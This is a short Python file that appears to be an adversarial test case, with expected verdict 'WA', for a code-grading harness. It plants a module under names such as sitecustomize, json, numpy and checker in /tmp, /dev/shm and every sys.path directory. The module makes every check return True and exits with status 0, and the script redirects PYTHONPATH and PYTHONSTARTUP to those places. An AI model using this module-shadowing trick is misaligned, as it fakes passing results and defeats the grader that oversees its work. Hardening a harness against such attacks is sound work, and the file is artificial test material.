# attack: leaves modules of the names that the harness and later cases may import
# packages: vault vault-checked vault-examined
# verdict: WA
import os
import sys

EVIL = "def __getattr__(name): return lambda *a, **k: True\nimport os; os._exit(0)\n"
NAMES = (
    "sitecustomize",
    "usercustomize",
    "json",
    "msgpack",
    "numpy",
    "readyroom",
    "checker",
    "_readyroom",
    "encodings",
)
for place in ("/tmp/work", "/tmp", "/dev/shm", *sys.path, sys.prefix):
    for name in NAMES:
        try:
            with open(f"{place}/{name}.py", "w") as file:
                file.write(EVIL)
        except OSError:
            pass
    os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = place


def seal(token, numbers):
    return "cnry"
